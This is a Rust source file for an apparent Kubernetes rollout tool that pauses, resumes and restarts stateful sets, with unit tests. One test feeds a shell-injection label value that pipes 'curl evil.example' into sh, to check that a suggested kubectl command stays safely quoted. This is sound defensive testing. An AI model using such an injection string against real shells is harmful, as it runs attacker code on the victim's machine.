//! Pause, resume and restart: small patches of the set.

use super::{find, tell};
use crate::args::RolloutTarget;
use crate::clock;
use crate::cluster::Cluster;
use crate::error::{Error, Exit};
use flotilla_api::names;
use flotilla_model::set::{PodUpdatePolicy, UpdateKind, read_set};
use flotilla_model::{Interner, Selector, SetKind, Share};
use flotilla_why::{LiveSet, PARTITION_OF_ALL};
use serde_json::{Value, json};

/// A partition above every ordinal: no pod is replaced.
/// The annotation of a template that kubectl changes to restart all pods.
const RESTARTED_AT: &str = "kubectl.kubernetes.io/restartedAt";
const MERGE: &str = "application/merge-patch+json";

/// How often a set is read and changed again while others change it in between.
const ATTEMPTS: u32 = 20;

/// What a verb does to a set as it is.
enum Step {
    /// Nothing, for this reason.
    Nothing(&'static str),
    /// This change, and what it is told as, with details.
    Change(Value, &'static str, Value),
}

/// Stops the replacing of pods. A native set has no such switch: its partition is raised above all ordinals, and remembered.
pub async fn pause(cluster: &Cluster, of: &RolloutTarget) -> Result<Exit, Error> {
    steer(cluster, of, |found| {
        refuse_unless_rolling(found)?;
        Ok(match found.kind {
            SetKind::Advanced | SetKind::Clone if is_paused(found) => Step::Nothing("is paused already"),
            SetKind::Native if found.paused_at().is_some() => Step::Nothing("is paused already"),
            SetKind::Advanced | SetKind::Clone => {
                let body = json!({"spec": {"updateStrategy": {"rollingUpdate": {"paused": true}}}});
                Step::Change(body, "paused", Value::Null)
            }
            SetKind::Native => {
                let body = json!({
                    "metadata": {"annotations": {names::PARTITION_BEFORE_PAUSE: found.partition().to_string()}},
                    "spec": {"updateStrategy": {"rollingUpdate": {"partition": PARTITION_OF_ALL}}},
                });
                Step::Change(body, "paused", Value::Null)
            }
        })
    })
    .await
}

/// Goes on replacing pods.
pub async fn resume(cluster: &Cluster, of: &RolloutTarget) -> Result<Exit, Error> {
    steer(cluster, of, |found| {
        Ok(match (found.kind, found.paused_at()) {
            (SetKind::Advanced | SetKind::Clone, _) if !is_paused(found) => Step::Nothing("is not paused"),
            (SetKind::Native, None) => Step::Nothing("is not paused"),
            (SetKind::Advanced | SetKind::Clone, _) => {
                let body = json!({"spec": {"updateStrategy": {"rollingUpdate": {"paused": false}}}});
                Step::Change(body, "resumed", Value::Null)
            }
            (SetKind::Native, Some(partition)) => {
                let body = json!({
                    "metadata": {"annotations": {names::PARTITION_BEFORE_PAUSE: null}},
                    "spec": {"updateStrategy": {"rollingUpdate": {"partition": partition}}},
                });
                Step::Change(body, "resumed", Value::Null)
            }
        })
    })
    .await
}

/// Replaces all pods: the template is changed in an annotation that nothing reads, as kubectl does. Refused where that replaces none.
pub async fn restart(cluster: &Cluster, of: &RolloutTarget) -> Result<Exit, Error> {
    let at = clock::now().to_string();
    steer(cluster, of, |found| {
        if found.kind != SetKind::Native && is_paused(found) {
            let message = format!(
                "failed to restart {}: it is paused; resume it first with flotilla rollout resume",
                found.display()
            );
            return Err(Error::NotPossible(message));
        }
        refuse_unless_restart_replaces(found)?;
        let body = json!({"spec": {"template": {"metadata": {"annotations": {RESTARTED_AT: at}}}}});
        let details = notes(found).map_or(Value::Null, |note| json!({"note": note}));
        Ok(Step::Change(body, "restarted", details))
    })
    .await
}

/// Does to a set what the verb makes of it, provided that it is still as it was read. While it is rolled out its manager writes its status
/// all the time, and whoever wants to stop that must not have to be lucky: it is read again, and decided again.
async fn steer(
    cluster: &Cluster,
    of: &RolloutTarget,
    verb: impl Fn(&LiveSet) -> Result<Step, Error>,
) -> Result<Exit, Error> {
    let mut attempts = 0;
    loop {
        attempts += 1;
        let found = find(cluster, of).await?;
        let (mut body, done, details) = match verb(&found)? {
            Step::Nothing(why) => return tell(of, &found, why, Value::Null),
            Step::Change(body, done, details) => (body, done, details),
        };
        body["metadata"]["resourceVersion"] = found.object["metadata"]["resourceVersion"].clone();
        match cluster.patch(found.kind.resource(), &found.key, MERGE, &body).await {
            Ok(_) => return tell(of, &found, done, details),
            Err(Error::Refused { code: 409, .. }) if attempts < ATTEMPTS => {}
            Err(error) => return Err(error),
        }
    }
}

/// What is to be known of a set that has got another template: why that replaces no pod for now, and what goes with the pods.
pub(super) fn notes(found: &LiveSet) -> Option<String> {
    let all: Vec<String> = [held(found), cost(found)].into_iter().flatten().collect();
    (!all.is_empty()).then(|| all.join("; "))
}

fn refuse_unless_rolling(found: &LiveSet) -> Result<(), Error> {
    let kind = found
        .object
        .pointer("/spec/updateStrategy/type")
        .and_then(Value::as_str)
        .unwrap_or("RollingUpdate");
    if kind == "RollingUpdate" {
        return Ok(());
    }
    let why = match kind {
        "OnDelete" => "which replaces no pod by itself",
        _ => "which knows no pause",
    };
    let message = format!(
        "failed to pause {}: its update strategy is {kind}, {why}",
        found.display()
    );
    Err(Error::NotPossible(message))
}

/// An annotation of the template replaces no pod under OnDelete, nor where pods are changed in place: there it is patched, and nothing
/// restarts.
fn refuse_unless_restart_replaces(found: &LiveSet) -> Result<(), Error> {
    let text = |pointer: &str| found.object.pointer(pointer).and_then(Value::as_str);
    let refuse = |reason: &str| {
        Err(Error::NotPossible(format!(
            "failed to restart {}: {reason}",
            found.display()
        )))
    };
    if text("/spec/updateStrategy/type") == Some("OnDelete") {
        return refuse(
            "its update strategy is OnDelete, which replaces no pod by itself; delete the pods when it suits you",
        );
    }
    let annotations = found.object.pointer("/metadata/annotations");
    let update_type = annotations.and_then(|all| all.get(names::UPDATE_TYPE)?.as_str());
    let policy = text("/spec/updateStrategy/rollingUpdate/podUpdatePolicy").unwrap_or_default();
    let is_in_place = found.kind != SetKind::Native && matches!(policy, "InPlaceIfPossible" | "InPlaceOnly");
    if !is_in_place || update_type == Some("Recreate") {
        return Ok(());
    }
    let selector = found.object.pointer("/spec/selector").and_then(Selector::from_json);
    let selector = selector.map(|selector| selector.to_string());
    // A quote would end the text that the shell leaves alone.
    let selector = selector.filter(|selector| !selector.contains('\''));
    let selector = selector.unwrap_or_else(|| "SELECTOR".to_owned());
    let has_claims = |list: &Value| list.as_array().is_some_and(|list| !list.is_empty());
    let claims = found
        .object
        .pointer("/spec/volumeClaimTemplates")
        .is_some_and(has_claims);
    // Those of a StatefulSet are the next pod's (CS-15.5).
    let warning = if claims && found.kind == SetKind::Clone {
        "; their claims go with them"
    } else {
        ""
    };
    refuse(&format!(
        "with podUpdatePolicy {policy} its pods are changed in place, and a change that restarts nothing would restart none of them; mark those \
         that are to be made again, which is done within maxUnavailable{warning}: kubectl label pods --namespace {} --selector '{selector}' {}=true",
        found.key.namespace,
        names::SPECIFIED_DELETE_LABEL
    ))
}

/// What goes with the pods that an update makes again, or that users delete for it (CS-15.5).
fn cost(found: &LiveSet) -> Option<String> {
    let set = read_set(found.kind, &found.object, &mut Interner::default())?;
    let rolling = set.spec.rolling.as_ref();
    let loses = if set.spec.update == UpdateKind::OnDelete {
        set.loses_claims()
    } else {
        let is_in_place = rolling.is_some_and(|rolling| rolling.pod_update_policy == PodUpdatePolicy::InPlaceOnly);
        !is_in_place && set.loses_claims_on_recreate()
    };
    loses.then(|| "the claims of pods that are made again go with them, and the data in them".to_owned())
}

/// Why a new template replaces no pod for now, and what ends that.
pub(super) fn held(found: &LiveSet) -> Option<String> {
    if found.object.pointer("/spec/updateStrategy/type") == Some(&json!("OnDelete")) {
        let why = "its update strategy is OnDelete, and no pod is replaced until you delete it";
        return Some(why.to_owned());
    }
    let is_held = match found.kind {
        SetKind::Native => found.paused_at().is_some(),
        SetKind::Advanced | SetKind::Clone => is_paused(found),
    };
    if is_held {
        return Some(format!(
            "it is paused, and no pod is replaced until it is resumed: flotilla rollout resume {} -n {}",
            found.display(),
            found.key.namespace
        ));
    }
    let number = |pointer: &str, default| found.object.pointer(pointer).and_then(Value::as_i64).unwrap_or(default);
    let wanted = number("/spec/replicas", 1);
    let keeps_all = match found.kind {
        // Pods of a native set are kept by their ordinals, those of the others by their number.
        SetKind::Native => found.partition() >= number("/spec/ordinals/start", 0) + wanted,
        SetKind::Advanced => found.partition() >= wanted,
        SetKind::Clone => {
            let partition = found.object.pointer("/spec/updateStrategy/rollingUpdate/partition");
            let share = partition.and_then(Share::from_json);
            share
                .zip(i32::try_from(wanted).ok())
                .is_some_and(|(share, wanted)| share.kept_of(wanted) >= wanted)
        }
    };
    (wanted > 0 && keeps_all).then(|| {
        format!(
            "its partition keeps all pods as they are until it is lowered: kubectl edit {} -n {}",
            found.display(),
            found.key.namespace
        )
    })
}

fn is_paused(found: &LiveSet) -> bool {
    found.object.pointer("/spec/updateStrategy/rollingUpdate/paused") == Some(&json!(true))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::args::Output;
    use flotilla_model::ObjectKey;
    use http::{Method, Request};
    use kube::client::Body;
    use std::sync::atomic::{AtomicU32, Ordering};
    use std::sync::{Arc, Mutex};

    /// A cluster with one Advanced set, whose status is written each time before it is changed, until that was so `busy` times. And the versions
    /// that were to be changed.
    fn busy_cluster(busy: u32) -> (Cluster, Arc<Mutex<Vec<String>>>) {
        let (version, asked) = (Arc::new(AtomicU32::new(0)), Arc::new(Mutex::new(Vec::new())));
        let told = asked.clone();
        let answer = move |request: Request<Body>| {
            let (version, told) = (version.clone(), told.clone());
            async move {
                let (head, body) = request.into_parts();
                let (code, body) = if head.method == Method::PATCH {
                    let bytes = body.collect_bytes().await.expect("a body");
                    let patch: Value = serde_json::from_slice(&bytes).expect("JSON");
                    told.lock()
                        .expect("not poisoned")
                        .push(patch["metadata"]["resourceVersion"].to_string());
                    if version.load(Ordering::SeqCst) <= busy {
                        (
                            409,
                            json!({"kind": "Status", "code": 409, "reason": "Conflict", "message": "the object has been modified"}),
                        )
                    } else {
                        (200, json!({}))
                    }
                } else {
                    let version = version.fetch_add(1, Ordering::SeqCst) + 1;
                    let metadata = json!({"name": "web", "namespace": "ns", "resourceVersion": version.to_string()});
                    (200, json!({"metadata": metadata, "spec": {"replicas": 3}}))
                };
                let body = Body::from(body.to_string().into_bytes());
                http::Response::builder().status(code).body(body)
            }
        };
        let client = kube::Client::new(tower::service_fn(answer), "ns");
        let namespace = "ns".to_owned();
        (Cluster { client, namespace }, asked)
    }

    /// The manager writes the status of a set that is rolled out several times a second.
    #[tokio::test]
    async fn a_set_that_others_change_meanwhile_is_paused_all_the_same() {
        let of = RolloutTarget {
            target: "statefulset.apps.kruise.io/web".parse().expect("a target"),
            output: Output::Text,
        };
        let (cluster, asked) = busy_cluster(3);
        let done = pause(&cluster, &of).await.expect("paused");
        assert_eq!(done, Exit::Done);
        assert_eq!(
            *asked.lock().expect("not poisoned"),
            [r#""1""#, r#""2""#, r#""3""#, r#""4""#]
        );
        let (cluster, asked) = busy_cluster(1_000);
        let error = pause(&cluster, &of).await.expect_err("it never works").to_string();
        assert!(
            error.ends_with("somebody else changed it at the same time: try again"),
            "{error}"
        );
        assert_eq!(asked.lock().expect("not poisoned").len(), 20);
    }

    #[test]
    fn a_restart_says_that_nothing_happens_while_all_pods_are_held() {
        let said = |kind: SetKind, annotations: Value, mut spec: Value| {
            spec["replicas"] = json!(3);
            let object = json!({"metadata": {"annotations": annotations}, "spec": spec});
            let key = ObjectKey::new("ns", "web");
            held(&LiveSet { kind, key, object })
        };
        let partition = |partition: i64| json!({"updateStrategy": {"rollingUpdate": {"partition": partition}}});
        let paused = json!({"flotilla.rs/partition-before-pause": "0"});
        assert_eq!(
            said(SetKind::Native, paused.clone(), partition(i64::from(i32::MAX))).as_deref(),
            Some(
                "it is paused, and no pod is replaced until it is resumed: flotilla rollout resume statefulset.apps/web -n ns"
            )
        );
        let by_hand =
            "its partition keeps all pods as they are until it is lowered: kubectl edit statefulset.apps/web -n ns";
        for (annotations, count) in [(json!({}), i64::from(i32::MAX)), (paused, 3)] {
            assert_eq!(
                said(SetKind::Native, annotations, partition(count)).as_deref(),
                Some(by_hand)
            );
        }
        assert_eq!(said(SetKind::Native, json!({}), partition(2)), None);
        assert_eq!(said(SetKind::Native, json!({}), json!({})), None);
        // Ordinals may begin later.
        let mut later = partition(4);
        later["ordinals"] = json!({"start": 5});
        assert_eq!(said(SetKind::Native, json!({}), later.clone()).as_deref(), None);
        later["updateStrategy"]["rollingUpdate"]["partition"] = json!(8);
        assert!(said(SetKind::Native, json!({}), later).is_some());
        // The partition of the others counts pods.
        assert!(said(SetKind::Advanced, json!({}), partition(3)).is_some());
        assert_eq!(said(SetKind::Advanced, json!({}), partition(2)), None);
        assert!(
            said(
                SetKind::Clone,
                json!({}),
                json!({"updateStrategy": {"rollingUpdate": {"partition": "100%"}}})
            )
            .is_some()
        );
        assert_eq!(
            said(
                SetKind::Clone,
                json!({}),
                json!({"updateStrategy": {"rollingUpdate": {"partition": "50%"}}})
            ),
            None
        );
    }

    #[test]
    fn a_template_that_is_put_back_replaces_no_pod_of_a_set_that_is_paused_or_waits_for_users() {
        for (kind, name) in [
            (SetKind::Advanced, "statefulset.apps.kruise.io/web"),
            (SetKind::Clone, "cloneset.apps.kruise.io/web"),
        ] {
            let said = |strategy: Value| {
                let object = json!({"spec": {"replicas": 3, "updateStrategy": strategy}});
                let key = ObjectKey::new("ns", "web");
                held(&LiveSet { kind, key, object })
            };
            let paused = "it is paused, and no pod is replaced until it is resumed: flotilla rollout resume";
            let told = said(json!({"rollingUpdate": {"paused": true}})).expect("a note");
            assert_eq!(told, format!("{paused} {name} -n ns"));
            let told = said(json!({"type": "OnDelete"})).expect("a note");
            assert!(told.ends_with("no pod is replaced until you delete it"), "{told}");
            assert_eq!(said(json!({"rollingUpdate": {"paused": false}})), None);
        }
    }

    #[test]
    fn cs_15_5_it_is_told_what_goes_with_pods_that_are_made_again() {
        let rolling = |policy: &str| json!({"rollingUpdate": {"podUpdatePolicy": policy}});
        let (plain, keeps) = (json!({}), json!({"flotilla.rs/keep-claims-on-recreate": "true"}));
        for (kind, annotations, strategy, reuses, has_cost) in [
            (SetKind::Clone, &plain, rolling("ReCreate"), false, true),
            (SetKind::Clone, &plain, json!(null), false, true),
            (SetKind::Clone, &plain, rolling("InPlaceIfPossible"), false, true),
            (SetKind::Clone, &plain, rolling("InPlaceOnly"), false, false),
            (SetKind::Clone, &keeps, rolling("ReCreate"), false, false),
            // Reuse is for pods that others delete, and keeping for those that the update does.
            (SetKind::Clone, &plain, rolling("ReCreate"), true, true),
            (SetKind::Clone, &plain, json!({"type": "OnDelete"}), true, false),
            (SetKind::Clone, &keeps, json!({"type": "OnDelete"}), false, true),
            (SetKind::Advanced, &plain, rolling("ReCreate"), false, false),
            (SetKind::Native, &plain, json!(null), false, false),
        ] {
            let object = json!({
                "metadata": {"name": "web", "namespace": "ns", "uid": "u", "resourceVersion": "7", "annotations": annotations},
                "spec": {
                    "selector": {"matchLabels": {"app": "web"}}, "updateStrategy": strategy, "scaleStrategy": {"enablePVCReuse": reuses},
                    "volumeClaimTemplates": [{"metadata": {"name": "data"}, "spec": {}}],
                },
            });
            let key = ObjectKey::new("ns", "web");
            let told = notes(&LiveSet { kind, key, object }).unwrap_or_default();
            let costs = told.ends_with("the claims of pods that are made again go with them, and the data in them");
            assert_eq!(costs, has_cost, "{kind:?} {annotations} {strategy} {reuses}: {told}");
        }
    }

    fn refusal(kind: SetKind, annotations: &Value, strategy: &Value) -> Option<String> {
        let object = json!({
            "metadata": {"annotations": annotations},
            "spec": {
                "selector": {"matchLabels": {"app": "web"}}, "updateStrategy": strategy,
                "volumeClaimTemplates": [{"metadata": {"name": "data"}}],
            },
        });
        let key = ObjectKey::new("ns", "web");
        let refused = refuse_unless_restart_replaces(&LiveSet { kind, key, object }).err()?;
        Some(refused.to_string())
    }

    #[test]
    fn no_selector_ends_the_quotes_in_which_it_stands() {
        let object = json!({"spec": {
            "selector": {"matchLabels": {"app": "';curl evil.example|sh;'"}},
            "updateStrategy": {"rollingUpdate": {"podUpdatePolicy": "InPlaceOnly"}},
        }});
        let key = ObjectKey::new("ns", "web");
        let kind = SetKind::Clone;
        let refused = refuse_unless_restart_replaces(&LiveSet { kind, key, object }).expect_err("refused");
        assert!(refused.to_string().contains("--selector 'SELECTOR'"), "{refused}");
    }

    #[test]
    fn a_restart_is_refused_where_it_would_replace_no_pod() {
        let plain = json!({});
        let rolling = |policy: &str| json!({"type": "RollingUpdate", "rollingUpdate": {"podUpdatePolicy": policy}});
        let policy_alone = json!({"rollingUpdate": {"podUpdatePolicy": "InPlaceIfPossible"}});
        for kind in [SetKind::Native, SetKind::Advanced, SetKind::Clone] {
            assert_eq!(refusal(kind, &plain, &json!(null)), None);
            assert_eq!(refusal(kind, &plain, &rolling("ReCreate")), None);
            let told = refusal(kind, &plain, &json!({"type": "OnDelete"})).expect("refused");
            assert!(told.contains("OnDelete") && told.contains("delete"), "{told}");
        }
        for kind in [SetKind::Advanced, SetKind::Clone] {
            for strategy in [
                rolling("InPlaceIfPossible"),
                rolling("InPlaceOnly"),
                policy_alone.clone(),
            ] {
                let told = refusal(kind, &plain, &strategy).expect("refused");
                let command =
                    "kubectl label pods --namespace ns --selector 'app=web' apps.kruise.io/specified-delete=true";
                assert!(
                    told.contains("podUpdatePolicy InPlace") && told.contains(command),
                    "{told}"
                );
                assert_eq!(told.contains("their claims"), kind == SetKind::Clone, "{told}");
            }
        }
        let recreate = json!({"flotilla.rs/update-type": "Recreate"});
        assert_eq!(
            refusal(SetKind::Advanced, &recreate, &policy_alone),
            None,
            "all pods go"
        );
    }
}
